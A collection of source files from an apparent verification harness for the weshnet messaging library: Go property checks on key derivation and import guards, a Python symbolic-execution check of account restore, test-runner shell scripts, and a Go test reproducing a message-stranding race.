        args = is_app(t)
        if args is not None:
            return '%s(%s)' % (app_name(t), ', '.join(term_str(a, depth + 1) for a in args))
    return str(t)
