package secretstore

import (
	"github.com/libp2p/go-libp2p/core/crypto"

	"berty.tech/weshnet/v2/pkg/protocoltypes"
)

func verifAcctPub(s *secretStore) crypto.PubKey {
	k, err := s.GetAccountPrivateKey()
	verif_assume(err == nil)
	return k.GetPublic()
}

func verifSameGroup(a, b *protocoltypes.Group) bool {
	return verif_bytesEq(a.PublicKey, b.PublicKey) && verif_bytesEq(a.Secret, b.Secret) && a.GroupType == b.GroupType
}

// VerifC11Symmetry: two accounts derive the same contact group for each other; another pair derives another group;
// cached and recomputed derivations agree.
func VerifC11Symmetry(order int) {
	a := verifNewStore("A", 2)
	b := verifNewStore("B", 2)
	c := verifNewStore("C", 2)
	pa, pb, pc := verifAcctPub(a), verifAcctPub(b), verifAcctPub(c)
	var gab, gba *protocoltypes.Group
	var err error
	if order == 0 {
		gab, err = a.GetGroupForContact(pb)
		verif_assert(err == nil, "C11.sym: A derives")
		gba, err = b.GetGroupForContact(pa)
		verif_assert(err == nil, "C11.sym: B derives")
	} else {
		gba, err = b.GetGroupForContact(pa)
		verif_assert(err == nil, "C11.sym: B derives")
		gab, err = a.GetGroupForContact(pb)
		verif_assert(err == nil, "C11.sym: A derives")
	}
	if gab == nil || gba == nil {
		return
	}
	verif_assert(verifSameGroup(gab, gba), "C11.sym: both sides derive the same identifier, secret and type")
	verif_assert(gab.GroupType == protocoltypes.GroupType_GroupTypeContact, "C11.sym: contact group type")
	sa, err1 := gab.GetSigningPrivKey()
	sb, err2 := gba.GetSigningPrivKey()
	verif_assert(err1 == nil && err2 == nil && sa.Equals(sb), "C11.sym: same signing key")
	again, err := a.GetGroupForContact(pb) // served from the keystore cache
	verif_assert(err == nil && verifSameGroup(gab, again), "C11.sym: cached derivation equals the computed one")
	gac, err := a.GetGroupForContact(pc)
	verif_assert(err == nil, "C11.sym: A derives for C")
	if gac != nil {
		verif_assert(!verif_bytesEq(gac.PublicKey, gab.PublicKey) && !verif_bytesEq(gac.Secret, gab.Secret), "C11.sym: another pair derives another group")
		verif_assert(!verif_bytesEq(gab.PublicKey, gab.Secret), "C11.sym: identifier and secret are different derivations")
	}
	again2, err := a.GetGroupForContact(pb)
	verif_assert(err == nil && verifSameGroup(gab, again2), "C11.sym: the cache of one contact is not disturbed by another")
	verif_reach("C11.sym.ok")
}

// VerifC11Devices: two devices that hold the same account keys (export / import) derive the same account identity,
// contact groups and member key for a multi-member group, and distinct device keys.
func VerifC11Devices(useBefore int) {
	d1 := verifNewStore("D1", 2)
	d2 := verifNewStore("D2", 2)
	other := verifNewStore("O", 2)
	po := verifAcctPub(other)
	g, _, err := protocoltypes.NewGroupMultiMember()
	verif_assume(err == nil)
	if useBefore == 1 {
		_, _ = d1.GetGroupForContact(po) // derive before export
		_, _ = d1.GetOwnMemberDeviceForGroup(g)
	}
	ak, pk, err := d1.ExportAccountKeysForBackup()
	verif_assert(err == nil, "C11.dev: export succeeds")
	if err != nil {
		return
	}
	verif_assert(d2.ImportAccountKeys(ak, pk) == nil, "C11.dev: import into a fresh store succeeds")
	verif_assert(verifAcctPub(d1).Equals(verifAcctPub(d2)), "C11.dev: same account key")
	p1, _ := d1.GetAccountProofPublicKey()
	p2, _ := d2.GetAccountProofPublicKey()
	verif_assert(p1.Equals(p2), "C11.dev: same account proof key")
	a1, _, e1 := d1.GetGroupForAccount()
	a2, _, e2 := d2.GetGroupForAccount()
	verif_assert(e1 == nil && e2 == nil && verifSameGroup(a1, a2), "C11.dev: same account group")
	c1, e1 := d1.GetGroupForContact(po)
	c2, e2 := d2.GetGroupForContact(po)
	verif_assert(e1 == nil && e2 == nil && verifSameGroup(c1, c2), "C11.dev: same contact group")
	m1, e1 := d1.GetOwnMemberDeviceForGroup(g)
	m2, e2 := d2.GetOwnMemberDeviceForGroup(g)
	verif_assert(e1 == nil && e2 == nil, "C11.dev: member/device keys available")
	if e1 != nil || e2 != nil {
		return
	}
	verif_assert(m1.Member().Equals(m2.Member()), "C11.dev: all devices of an account derive the same member key for a group")
	verif_assert(!m1.Device().Equals(m2.Device()), "C11.dev: each device has its own device key per group")
	verif_assert(!m1.Member().Equals(verifAcctPub(d1)) && !m1.Device().Equals(verifAcctPub(d1)), "C12.identity: in a joined group the account never acts under its account key")
	dk, _ := d1.deviceKeystore.devicePrivateKey()
	verif_assert(!m1.Device().Equals(dk.GetPublic()) && !m1.Member().Equals(dk.GetPublic()), "C12.identity: nor under its account-level device key")
	g2, _, err := protocoltypes.NewGroupMultiMember()
	verif_assume(err == nil)
	n1, e1 := d1.GetOwnMemberDeviceForGroup(g2)
	verif_assert(e1 == nil && !n1.Member().Equals(m1.Member()) && !n1.Device().Equals(m1.Device()), "C11.dev: another group gives other member and device keys")
	verif_reach("C11.dev.ok")
}

// VerifC11ImportGuards: import is refused on a store that already has an account, for non-Ed25519 or empty blobs,
// or when both keys are equal; a refused import writes nothing.
func VerifC11ImportGuards(scenario int) {
	src := verifNewStore("S", 2)
	dst := verifNewStore("T", 2)
	ak, pk, err := src.ExportAccountKeysForBackup()
	verif_assume(err == nil)
	switch scenario {
	case 0: // destination already holds an account key
		_ = verifAcctPub(dst)
		verif_assert(dst.ImportAccountKeys(ak, pk) != nil, "C11.guard: refused when an account key exists")
	case 1: // destination already holds a proof key (and no account key)
		_, err := dst.deviceKeystore.getAccountProofPrivateKey()
		verif_assume(err == nil)
		verif_assert(dst.ImportAccountKeys(ak, pk) != nil, "C11.guard: refused when a proof key exists")
		verif_reach("C11.guard.ok")
		return
	case 5: // destination has used a multi-member group (proof key generated, member key cached) before the import
		g, _, err := protocoltypes.NewGroupMultiMember()
		verif_assume(err == nil)
		before, err := dst.GetOwnMemberDeviceForGroup(g)
		verif_assume(err == nil)
		accepted := dst.ImportAccountKeys(ak, pk) == nil
		verif_assert(!accepted, "C11.guard: refused when a group was already used on this store (proof key exists)")
		after, err := dst.GetOwnMemberDeviceForGroup(g)
		verif_assert(err == nil && after.Member().Equals(before.Member()), "C11.guard: the member key of a group never changes on a store")
		if accepted {
			// whatever was accepted: cached and recomputed derivations agree with every other device of that account
			fresh := verifNewStore("F", 2)
			verif_assume(fresh.ImportAccountKeys(ak, pk) == nil)
			fm, err := fresh.GetOwnMemberDeviceForGroup(g)
			verif_assume(err == nil)
			verif_assert(after.Member().Equals(fm.Member()), "C11.guard: after an accepted import the member key equals the one every device of the account derives")
		}
		verif_reach("C11.guard.ok")
		return
	case 2:
		verif_assert(dst.ImportAccountKeys(ak, ak) != nil, "C11.guard: refused when both keys are equal")
	case 3:
		verif_assert(dst.ImportAccountKeys(nil, pk) != nil, "C11.guard: refused for an empty account key blob")
		verif_assert(dst.ImportAccountKeys(ak, []byte{}) != nil, "C11.guard: refused for an empty proof key blob")
	case 4: // arbitrary blobs: anything accepted is a pair of distinct Ed25519 keys
		x := verif_anyBytes("blobA")
		y := verif_anyBytes("blobB")
		if dst.ImportAccountKeys(x, y) == nil {
			k1, e1 := dst.GetAccountPrivateKey()
			k2, e2 := dst.deviceKeystore.getAccountProofPrivateKey()
			verif_assert(e1 == nil && e2 == nil, "C11.guard: accepted import is readable")
			verif_assert(k1.Type() == 1 && k2.Type() == 1, "C11.guard: only Ed25519 keys are accepted")
			verif_assert(!k1.Equals(k2), "C11.guard: the two keys differ")
			verif_reach("C11.guard.accepted")
		}
		return
	}
	// a refused import wrote nothing: a later import of the right keys into a fresh store still works, and the refused
	// destination keeps its own identity
	if scenario >= 2 {
		verif_assert(dst.ImportAccountKeys(ak, pk) == nil, "C11.guard: a refused import wrote nothing (the proper import still succeeds)")
		verif_assert(verifAcctPub(dst).Equals(verifAcctPub(src)), "C11.guard: and yields the exported identity")
	} else {
		verif_assert(!verifAcctPub(dst).Equals(verifAcctPub(src)), "C11.guard: the existing identity is kept")
	}
	verif_reach("C11.guard.ok")
}

// VerifC11Isolation: the keys cached for one purpose never answer for another. A multi-member group whose identifier
// is chosen by somebody else (FREE 32 bytes: it may equal a contact's account key) is used on store A before (order 0) or
// after (order 1) A derives its contact group with B. The contact group is still the one B derives for A, and A's member
// key for that group is still the one every device of A's account derives (a fresh store with A's exported keys).
func VerifC11Isolation(order int) {
	a := verifNewStore("A", 2)
	b := verifNewStore("B", 2)
	pa, pb := verifAcctPub(a), verifAcctPub(b)
	gpk := verif_anyBytes("group-id")
	verif_assume(len(gpk) == 32)
	sec := make([]byte, 32)
	_, _ = verifRand(sec)
	g := &protocoltypes.Group{PublicKey: gpk, Secret: sec, GroupType: protocoltypes.GroupType_GroupTypeMultiMember}
	var md OwnMemberDevice
	var err error
	if order == 0 {
		md, err = a.GetOwnMemberDeviceForGroup(g)
		if err != nil {
			return // not a usable group identifier
		}
	}
	gab, e1 := a.GetGroupForContact(pb)
	gba, e2 := b.GetGroupForContact(pa)
	verif_assert(e1 == nil && e2 == nil && verifSameGroup(gab, gba), "C11.iso: the contact group is the same on both sides whatever other groups were used before")
	if order == 1 {
		md, err = a.GetOwnMemberDeviceForGroup(g)
		if err != nil {
			return
		}
	}
	ak, pk, err := a.ExportAccountKeysForBackup()
	verif_assume(err == nil)
	a2 := verifNewStore("A2", 2)
	verif_assume(a2.ImportAccountKeys(ak, pk) == nil)
	md2, err := a2.GetOwnMemberDeviceForGroup(g)
	verif_assert(err == nil, "C11.iso: the other device can use the group too")
	if err == nil {
		verif_assert(md.Member().Equals(md2.Member()), "C11.iso: the member key of a group is the one every device of the account derives, whatever contacts were derived before")
	}
	verif_reach("C11.iso.ok")
}

func VerifC11Witness() {
	a := verifNewStore("A", 2)
	b := verifNewStore("B", 2)
	gab, err := a.GetGroupForContact(verifAcctPub(b))
	if err == nil && gab != nil {
		verif_assert(false, "C11.witness: reachable")
	}
}
