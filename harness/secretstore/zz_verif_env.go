package secretstore

import (
	"context"

	"github.com/ipfs/go-cid"
	"github.com/ipfs/go-datastore"
	keystore "github.com/ipfs/go-ipfs-keystore"
	"github.com/libp2p/go-libp2p/core/crypto"

	"berty.tech/weshnet/v2/pkg/ipfsutil"
	"berty.tech/weshnet/v2/pkg/protocoltypes"
)

func verif_datastore(name string) datastore.Datastore    { panic("intrinsic") }
func verif_symDatastore(name string) datastore.Datastore { panic("intrinsic") }

// verifKeystore: weshnet's own datastore-backed keystore (pkg/ipfsutil, executed for real: Put overwrites) over a
// contract datastore of its own -- what NewSecretStoreOptions.applyDefaults builds over a namespace of the root datastore.
func verifKeystore(name string) keystore.Keystore {
	return ipfsutil.NewDatastoreKeystore(verif_datastore(name + ".keystore"))
}
func verif_background() context.Context                  { panic("intrinsic") }
func verif_anyCid(name string) cid.Cid                   { panic("intrinsic") }
func verif_cidN(i int) cid.Cid                           { panic("intrinsic") }
func verif_honestKey(k crypto.PrivKey)                   { panic("intrinsic") }
func verif_secretSymKey(k []byte)                        { panic("intrinsic") }

// verifNewStore builds a real secretStore over the contract datastore/keystore with a small window.
func verifNewStore(name string, window int) *secretStore {
	s, err := newSecretStore(verif_datastore(name), &NewSecretStoreOptions{
		Keystore:                           verifKeystore(name),
		PreComputedKeysCount:               window,
		PrecomputeOutOfStoreGroupRefsCount: 1,
	})
	verif_assume(err == nil && s != nil)
	return s
}

// verifGroup returns a group of the requested type usable by both stores.
func verifGroup(snd, rcv *secretStore, gt int) *protocoltypes.Group {
	switch gt {
	case 1:
		g, _, err := snd.GetGroupForAccount()
		verif_assume(err == nil)
		return g
	case 2:
		rk, err := rcv.GetAccountPrivateKey()
		verif_assume(err == nil)
		g, err := snd.GetGroupForContact(rk.GetPublic())
		verif_assume(err == nil)
		return g
	default:
		g, _, err := protocoltypes.NewGroupMultiMember()
		verif_assume(err == nil)
		return g
	}
}

// verifLink makes `rcv` register the chain key of `snd` for group g through the real announcement path.
func verifLink(ctx context.Context, snd, rcv *secretStore, g *protocoltypes.Group) (sndMD, rcvMD *ownMemberDevice) {
	sndMD, err := snd.deviceKeystore.memberDeviceForGroup(g)
	verif_assume(err == nil)
	rcvMD, err = rcv.deviceKeystore.memberDeviceForGroup(g)
	verif_assume(err == nil)
	enc, err := snd.GetShareableChainKey(ctx, g, rcvMD.Member())
	verif_assume(err == nil)
	err = rcv.RegisterChainKey(ctx, g, sndMD.Device(), enc)
	verif_assume(err == nil)
	return sndMD, rcvMD
}

func verifPayload(p []byte) []byte {
	return p
}

func verifRand(b []byte) (int, error) { return verifCrand(b) }
