package weshnet

import (
	"github.com/libp2p/go-libp2p/core/crypto"
	"go.uber.org/zap"
)

func verif_handshakePeer(pk crypto.PubKey) { panic("intrinsic") } // the key the next responder handshake authenticates

// VerifC06Incoming: what the responder does AFTER the handshake (contactRequestsManager.handleIncomingRequest): the
// handshake (decided separately) has authenticated the account key K; the peer then sends an arbitrary ShareableContact
// (every field free). Whatever is recorded is a request of exactly K: no contact other than K ever appears in the account
// state, and an accepted request appended exactly one event.
func VerifC06Incoming() {
	ctx := verif_background()
	m, ss := verifAccountStore("acct")
	ask, err := ss.GetAccountPrivateKey()
	verif_assume(err == nil)
	_, pk := verifFreshKey()
	raw, _ := pk.Raw()
	verif_handshakePeer(pk)
	c := &contactRequestsManager{metadataStore: m, accountPrivateKey: ask, logger: zap.NewNop()}
	before := verif_appended()
	err = c.handleIncomingRequest(ctx, nil)
	idx := m.Index().(*metadataStoreIndex)
	for k, rec := range idx.contacts {
		verif_assert(verif_bytesEq([]byte(k), raw), "C06.incoming: the responder records a request only for the account key the handshake authenticated")
		verif_assert(rec != nil && verif_bytesEq(rec.contact.Pk, raw), "C06.incoming: the recorded contact carries the authenticated key")
	}
	if err == nil {
		verif_assert(verif_appended() == before+1, "C06.incoming: an accepted request appends exactly one event")
		verif_assert(len(idx.contacts) == 1, "C06.incoming: an accepted request is recorded")
		verif_reach("C06.incoming.accepted")
	} else {
		verif_assert(verif_appended() == before, "C06.incoming: a refused request appends nothing")
	}
}
