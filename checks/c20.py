#!/usr/bin/env python3
"""C20: account export/restore -- rejection rules and faithful hand-over of keys and entries (restore side)."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
import c03
from wesym.values import *
from wesym.contracts.base import mk_error, gostr
from wesym.contracts import ipfslog
from wesym.interp import simp_bool
from wesym import terms as T
import z3

KINDS = {0: 'account.key', 1: 'account_proof.key'}


def install(I):
    C, M, N = I.contracts, I.methods, I.intrinsics

    def v_archive(I, args, ins):
        return Iface(-70, Native('tarfeed', members=[], as_iface=True))

    def v_archive_add(I, args, ins):
        a, kind, name, body = args
        kind = I.concretize(kind, 'kind')
        nt = I.bytes_term(name)
        if kind in KINDS:
            nm = KINDS[kind]
        elif kind == 2:
            nm = SymStr(I.mk_cat(T.lit_bytes(b'entries/'), nt))
        elif kind == 3:
            nm = SymStr(I.mk_cat(T.lit_bytes(b'heads/'), nt))
        else:
            nm = SymStr(I.mk_cat(T.lit_bytes(b'zz-unknown/'), nt))
        a.v.members.append((nm, body))
        return None

    N['verif_archive'] = v_archive
    N['verif_archiveAdd'] = v_archive_add

    def tar_new_reader(I, args, ins):
        feed = args[0].v
        return Ptr([Native('tarreader', feed=feed, pos=-1)], 0)

    def tar_next(I, args, ins):
        r = args[0].load()
        r.pos += 1
        if r.pos >= len(r.feed.members):
            return (None, I.global_ptr('io.EOF').load())
        nm, body = r.feed.members[r.pos]
        ht = I.prog.type_by_str('archive/tar.Header')
        sv = I.zero(ht)
        for i, f in enumerate(ht.under().fields):
            if f['name'] == 'Name':
                sv[i] = nm
            elif f['name'] == 'Size':
                sv[i] = I.len_of(body)
            elif f['name'] == 'Typeflag':
                sv[i] = 48  # tar.TypeReg
        return (Ptr([sv], 0), None)

    C['archive/tar.NewReader'] = tar_new_reader
    C['(*archive/tar.Reader).Next'] = tar_next

    def io_copy(I, args, ins):
        dst, src = args
        r = src.v.load() if isinstance(src.v, Ptr) else src.v
        nm, body = r.feed.members[r.pos]
        buf = dst.v.load() if isinstance(dst.v, Ptr) else dst.v
        I.path.ghost.setdefault('buffers', {})[id(buf)] = body
        return (I.len_of(body), None)

    C['io.Copy'] = io_copy
    C['(*bytes.Buffer).Bytes'] = lambda I, a, ins: I.path.ghost.get('buffers', {}).get(id(a[0].load()))

    def has_prefix(I, args, ins):
        s, p = args
        if isinstance(s, str):
            return s.startswith(p)
        a = T.is_app(s.t, 'cat')
        if a is not None:
            cb = T.concrete_bytes(a[0])
            if cb is not None:
                return cb.decode('latin-1').startswith(p) if len(cb) >= len(p) else False
        raise Inconclusive('strings.HasPrefix on a symbolic string')

    def trim_prefix(I, args, ins):
        s, p = args
        if isinstance(s, str):
            return s[len(p):] if s.startswith(p) else s
        a = T.is_app(s.t, 'cat')
        if a is not None:
            cb = T.concrete_bytes(a[0])
            if cb is not None and cb.decode('latin-1') == p:
                return SymStr(a[1])
        raise Inconclusive('strings.TrimPrefix on a symbolic string')

    C['strings.HasPrefix'] = has_prefix
    C['strings.TrimPrefix'] = trim_prefix

    def cid_parse(I, args, ins):
        v = args[0]
        x = v.v if isinstance(v, Iface) else v
        if isinstance(x, (str, SymStr)):
            t = I.str_term(x)
        else:
            t = I.bytes_term(x)
        ok = I.fresh_bool('cid-parses')
        if not I.fork_bool(ok, 'cid.Parse'):
            tt = I.prog.type_by_str(ipfslog.CID)
            return (SV([''], tt.id if tt else 0), mk_error(I, 'invalid cid'))
        c = T.app('cidfromstr', t)
        I.add(T.blen(c) >= 1)
        return (ipfslog.cid_value(I, c), None)

    C['github.com/ipfs/go-cid.Parse'] = cid_parse

    def cid_name_of(I, args, ins):
        # the name under which a node with these bytes is exported: the string form of its CID
        t = T.app('cidstr-of-node', I.bytes_term(args[0]))
        I.add(T.blen(t) >= 1)
        return TermBytes(t)

    N['verif_cidNameOf'] = cid_name_of

    def cbor_decode(I, args, ins):
        b = args[0]
        ok = I.fresh_bool('cbor-decodes')
        if not I.fork_bool(ok, 'cbornode.Decode'):
            return (None, mk_error(I, 'cbor: decode error'))
        return (Ptr([Native('cbornode', data=I.bytes_term(b))], 0), None)

    def node_cid(I, args, ins):
        n = args[0].load()
        if getattr(n, 'cid', None) is not None:
            return n.cid  # a node decoded from a block keeps the block's CID
        # the CID of a node is a function of its bytes; its string form is what the exporter used as member name
        c = T.app('cidfromstr', T.app('cidstr-of-node', n.data))
        I.add(T.blen(c) >= 1)
        return ipfslog.cid_value(I, c)

    C['github.com/ipfs/go-ipld-cbor.Decode'] = cbor_decode
    C['(*github.com/ipfs/go-ipld-cbor.Node).Cid'] = node_cid

    # the block-based decoding API of the same libraries (documented behaviour: NewBlockWithCid does NOT check that the
    # bytes hash to the given CID unless the debug flag is set; DecodeBlock keeps the block's CID)
    def cid_prefix(I, args, ins):
        pt = I.prog.type_by_str('github.com/ipfs/go-cid.Prefix')
        if pt is None:
            raise Inconclusive('cid.Prefix type not in the dump')
        sv = I.zero(pt)
        for i, f in enumerate(pt.under().fields):
            ft = I.prog.types[f['t']]
            bits, signed = ft.intinfo()
            sv[i] = I.fresh_bv('cid-prefix-' + f['name'], bits)
        return sv

    C['(github.com/ipfs/go-cid.Cid).Prefix'] = cid_prefix

    def new_block_with_cid(I, args, ins):
        data, c = args
        return (Native('block', data=I.bytes_term(data), cid=c), None)

    def new_block(I, args, ins):
        t = I.bytes_term(args[0])
        c = T.app('cidfromstr', T.app('cidstr-of-node', t))
        I.add(T.blen(c) >= 1)
        return Native('block', data=t, cid=ipfslog.cid_value(I, c))

    C['github.com/ipfs/go-block-format.NewBlockWithCid'] = new_block_with_cid
    C['github.com/ipfs/go-block-format.NewBlock'] = new_block
    M[('block', 'Cid')] = lambda I, a, ins: a[0].cid
    M[('block', 'RawData')] = lambda I, a, ins: I.bytes_value(a[0].data) if hasattr(I, 'bytes_value') else TermBytes(a[0].data)

    def decode_block(I, args, ins):
        b = args[0]
        while isinstance(b, Iface):
            b = b.v
        ok = I.fresh_bool('cbor-decodes')
        if not I.fork_bool(ok, 'cbornode.DecodeBlock'):
            return (None, mk_error(I, 'cbor: decode error'))
        nt = I.prog.type_by_str('*github.com/ipfs/go-ipld-cbor.Node')
        if nt is None:
            raise Inconclusive('*cbornode.Node type not in the dump')
        return (Iface(nt.id, Ptr([Native('cbornode', data=b.data, cid=b.cid)], 0)), None)

    C['github.com/ipfs/go-ipld-cbor.DecodeBlock'] = decode_block

    def v_coreapi(I, args, ins):
        return Iface(-71, Native('coreapi', added=[], as_iface=True))

    N['verif_coreAPI'] = v_coreapi
    M[('coreapi', 'Dag')] = lambda I, a, ins: Iface(-72, Native('dag', api=a[0], as_iface=True))

    def dag_add(I, args, ins):
        d, ctx, node = args
        n = node.v.load() if isinstance(node, Iface) else node.load()
        d.api.added.append(n.data)
        return None

    M[('dag', 'Add')] = dag_add
    N['verif_dagHas'] = lambda I, a, ins: simp_bool(z3.Or(*[x == I.bytes_term(a[1]) for x in a[0].v.added])) if a[0].v.added else False
    N['verif_dagCount'] = lambda I, a, ins: len(a[0].v.added)
    C['(*berty.tech/weshnet/v2.WeshOrbitDB).setHeadsForGroup'] = lambda I, a, ins: (I.path.ghost.setdefault('heads', []).append(a[2:]), None)[1]


def main():
    t = tier()
    chk = c03.root_check('C20', ['C20/zz_verif_c20.go'], extra_installers=[install])
    P = MOD + '.'
    chk.load([P + 'VerifC20Restore', P + 'VerifC20Witness'])
    cfg = {'timeout_ms': 60000, 'unwind': 12}
    N = 3 if t == 'quick' else 4
    jobs = []
    for n in range(0, N + 1):
        jobs.append(Job(P + 'VerifC20Restore', (n, 0), cfg=cfg, max_paths=400000))
    for has in (1, 2, 3):
        jobs.append(Job(P + 'VerifC20Restore', (2, has), cfg=cfg, max_paths=100000))
    jobs.append(Job(P + 'VerifC20Witness', (), witness=True, cfg=cfg, max_paths=100000))
    res = chk.run_jobs(jobs)
    finish(chk, res, t,
           explanation='Symbolic execution of the restore side of account_export.go (RestoreAccountExport dispatch loop and post-processing, readKey, '
                       'restoreKeys, readExportSecretKeyFile, readExportCBORNode, restoreOrbitDBEntry, readExportOrbitDBGroupHeads, restoreOrbitDBHeads) '
                       'and of ImportAccountKeys: the archive is a list of n members whose kinds (both key files, entries, heads, unknown), names and '
                       'bodies are free, so order, omission, duplication and corruption are all solver-explored. An accepted restore must have had '
                       'exactly one file per key, import exactly those keys into a store without an account, and hand every entry to the DAG only if '
                       'its bytes hash to the identifier in its name.',
           bounds={'archive_members': '0..%d' % N, 'outside': 'the export side against a live OrbitDB; that go-orbit-db rebuilds the same logs and heads from the DAG (go-orbit-db / go-ipfs-log: not encodable); tar and CBOR byte formats (contracts)'},
           assumptions=['tar.Reader yields the members in archive order (contract)', 'cbornode.Decode(b).Cid() is a function of b; cid.Parse is injective (contracts)'],
           trusted=['go/ssa lowering', 'wesym interpreter + contracts', 'z3 5.1.0 (+cross-check)'])


if __name__ == '__main__':
    main()
