#!/bin/sh
# usage: tools/seedverify.sh <seedout dir> <pkg dir (repo-relative)> <test regex>
# confirms in a scratch worktree that the demonstration FAILS with the patch and PASSES without it, and that the repo builds.
d=$1; pkg=$2; re=$3
wt=/tmp/sv_$$
export GOFLAGS=-mod=mod GOPROXY=off
git -C /repo worktree add --detach $wt HEAD >/dev/null 2>&1 || exit 3
cd $wt
for f in $d/*_test.go; do cp $f $wt/$pkg/; done
echo "== without patch"; go test -vet=off -count=1 -run "$re" -timeout 10m ./$pkg/ 2>&1 | tail -3
git apply $d/patch.diff || { echo "PATCH DOES NOT APPLY"; }
echo "== build with patch"; go build ./... 2>&1 | tail -3
echo "== with patch"; go test -vet=off -count=1 -run "$re" -timeout 10m ./$pkg/ 2>&1 | tail -4
cd /; git -C /repo worktree remove --force $wt
