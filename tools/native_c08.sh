#!/bin/sh
# Native confirmation of the C08 stranded-message finding: runs findings/native_tests/defect_c08_test.go against /repo's
# current tree with a one-line pause hook inserted (through a build overlay) into processMessageLoop between the
# chain-key check and the parking of the message. Nothing is written into /repo.
tmp=$(mktemp -d)
awk '{print} /device, hasKnownChainKey := m.getOrCreateDeviceCache\(ctx, message, tracer\)/ {print "\t\tc08Window()"}' /repo/store_message.go > $tmp/store_message.go
grep -c "c08Window()" $tmp/store_message.go | grep -q '^1$' || { echo "hook line not inserted (processMessageLoop changed)"; rm -rf $tmp; exit 3; }
printf '{"Replace":{"/repo/store_message.go":"%s","/repo/defect_c08_test.go":"/verif/findings/native_tests/defect_c08_test.go"}}' "$tmp/store_message.go" > $tmp/ov.json
cd /repo && GOFLAGS=-mod=mod GOPROXY=off go test -vet=off -count=1 -overlay $tmp/ov.json -run 'TestC08MessageStranded' -v -timeout 10m . 2>&1 | tail -${1:-25}
rm -rf $tmp
