package weshnet

// Native confirmation of the C08 finding (found by checks/c08.py; the schedule is in the replay file): a message popped
// by the consumer loop while its sender's chain key is still unknown is parked in the device cache AFTER
// ProcessMessageQueueForDevicePK has already looked at the (still empty) cache; nothing releases it although the key
// is known and no further event is pending.
//
// The window is between getOrCreateDeviceCache (which releases muDeviceCaches) and device.queue.Add in
// processMessageLoop; no interface of the store is called inside it, so the interleaving cannot be forced from outside.
// tools/native_c08.sh therefore runs this test against a copy of store_message.go in which ONE line is added in that
// window -- a call of the hook below, i.e. a pause, which changes no behaviour of correctly synchronised code -- through a
// build overlay (nothing is written into /repo).

import (
	"context"
	"sync"
	"testing"
	"time"

	"github.com/ipfs/go-cid"
	mh "github.com/multiformats/go-multihash"
	"github.com/libp2p/go-libp2p/p2p/host/eventbus"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"
	"google.golang.org/protobuf/proto"

	"berty.tech/go-ipfs-log/entry"
	"berty.tech/go-orbit-db/stores/operation"
	"berty.tech/weshnet/v2/pkg/protocoltypes"
	"berty.tech/weshnet/v2/pkg/secretstore"
)

// c08Window is called by the patched processMessageLoop between the chain-key check and the parking of the message.
var c08Window = func() {}

func TestC08MessageStrandedWhenKeyArrivesBetweenCheckAndPark(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	snd, err := secretstore.NewInMemSecretStore(nil)
	require.NoError(t, err)
	rcvReal, err := secretstore.NewInMemSecretStore(nil)
	require.NoError(t, err)
	g, _, err := protocoltypes.NewGroupMultiMember()
	require.NoError(t, err)
	gpk, err := g.GetPubKey()
	require.NoError(t, err)
	sndMD, err := snd.GetOwnMemberDeviceForGroup(g)
	require.NoError(t, err)
	rcvMD, err := rcvReal.GetOwnMemberDeviceForGroup(g)
	require.NoError(t, err)
	sndRaw, err := sndMD.Device().Raw()
	require.NoError(t, err)
	rcvRaw, err := rcvMD.Device().Raw()
	require.NoError(t, err)

	// the sender's announcement is made BEFORE the message is sealed
	enc, err := snd.GetShareableChainKey(ctx, g, rcvMD.Member())
	require.NoError(t, err)
	payload, err := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: []byte("hello")})
	require.NoError(t, err)
	env, err := snd.SealEnvelope(ctx, g, payload)
	require.NoError(t, err)

	op := operation.NewOperation(nil, "ADD", env)
	opBytes, err := op.Marshal()
	require.NoError(t, err)
	h, err := mh.Sum(opBytes, mh.SHA2_256, -1)
	require.NoError(t, err)
	e := &entry.Entry{Payload: opBytes, Hash: cid.NewCidV1(cid.DagCBOR, h)}

	rcv := rcvReal
	inWindow, resume := make(chan struct{}), make(chan struct{})
	var once sync.Once
	c08Window = func() {
		once.Do(func() {
			close(inWindow)
			<-resume
		})
	}
	defer func() { c08Window = func() {} }()

	bus := eventbus.NewBus()
	tracer := &messageMetricsTracer{}
	m := &MessageStore{
		eventBus:                  bus,
		secretStore:               rcv,
		messagesQueue:             newMessageQueue("cache", tracer),
		group:                     g,
		groupPublicKey:            gpk,
		logger:                    zap.NewNop(),
		deviceCaches:              make(map[string]*groupCache),
		currentDevicePublicKey:    rcvMD.Device(),
		currentDevicePublicKeyRaw: rcvRaw,
	}
	m.emitters.groupMessage, err = bus.Emitter(new(*protocoltypes.GroupMessageEvent))
	require.NoError(t, err)
	m.emitters.groupCacheMessage, err = bus.Emitter(new(messageItem))
	require.NoError(t, err)
	sub, err := bus.Subscribe(new(*protocoltypes.GroupMessageEvent))
	require.NoError(t, err)
	defer sub.Close()

	go m.processMessageLoop(ctx, tracer)            // the store's consumer goroutine
	require.NoError(t, m.addToMessageQueue(ctx, e)) // what the store's subscriber goroutine does for a new entry

	// what GroupContext.handleGroupMetadataEvent does when the announcement arrives
	<-inWindow // the loop has seen "key unknown" and is about to park the message
	require.NoError(t, rcv.RegisterChainKey(ctx, g, sndMD.Device(), enc))
	m.ProcessMessageQueueForDevicePK(ctx, sndRaw)
	close(resume)

	// quiescence: the key is known, the log holds one decryptable message, no event is pending
	require.True(t, rcvReal.IsChainKeyKnownForDevice(ctx, gpk, sndMD.Device()))
	delivered := false
	select {
	case evt := <-sub.Out():
		delivered = true
		require.Equal(t, []byte("hello"), (evt.(*protocoltypes.GroupMessageEvent)).Message)
	case <-time.After(3 * time.Second):
	}
	size, _ := m.CacheSizeForDevicePK(sndRaw)
	if !delivered || size != 0 {
		t.Fatalf("message stranded: delivered=%v, parked in device cache=%d, chain key known=true, nothing pending", delivered, size)
	}
}
