#!/usr/bin/env python3
"""C03: only correctly signed metadata events reach group state and subscribers."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
from wesym.contracts import crypto, orbit

ROOT_PKGS = [MOD, MOD + '/pkg/secretstore', MOD + '/pkg/cryptoutil', MOD + '/pkg/protocoltypes', MOD + '/pkg/errcode', MOD + '/pkg/ipfsutil', 'encoding/binary', 'slices']
EVENT_TYPES = [1, 2, 101, 102, 103, 104, 105, 106, 107, 108, 109, 110, 111, 112, 201, 301, 302, 303, 403, 500, 1001]


def root_check(pid, files, extra_installers=(), extra_pkgs=()):
